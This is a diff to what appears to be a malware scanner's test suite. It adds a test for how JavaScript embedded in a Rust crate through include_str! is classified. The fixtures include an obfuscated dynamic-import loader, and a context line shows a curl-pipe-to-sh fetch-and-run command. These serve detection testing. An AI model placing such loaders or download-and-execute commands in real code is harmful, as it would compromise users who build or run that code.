@@ -101,6 +101,20 @@ def test_include_str_data_is_a_literal_of_the_includer() -> None:
     assert ("threat-download-execute-command", "src/lib.rs", 2) in found
 
 
+def test_a_script_embedded_with_include_str_runs_where_its_includer_does() -> None:
+    script = "import(String.fromCharCode(...K.map((c, i) => c ^ i)));\n"
+    lib = 'pub const PRELUDE: &str = include_str!("../js/prelude.js");\n'
+    result = scan({"src/lib.rs": lib, "js/prelude.js": script})
+    assert contexts(result, "threat-script-escaped-string") == {("js/prelude.js", Context.LIBRARY)}
+    assert result.verdict is Verdict.SUSPICIOUS
+    # embedded by a test only, or by nothing: tooling, not the crate's code
+    test = '#[cfg(test)]\nmod t { const P: &str = include_str!("../js/prelude.js"); }\n'
+    for files in ({"src/lib.rs": test, "js/prelude.js": script}, {"js/prelude.js": script}):
+        result = scan({"src/lib.rs": "", **files})
+        assert contexts(result, "threat-script-escaped-string") == {("js/prelude.js", Context.TEST)}
+        assert result.verdict is Verdict.CLEAN
+
+
 def test_scripts_that_build_code_or_configuration_run_are_build_code() -> None:
     script = "#!/bin/sh\ncurl -fsSL https://updates.example-cdn.com/i | sh\n"
     build = 'fn main() { std::process::Command::new("sh").arg("scripts/configure.sh").status(); }\n'
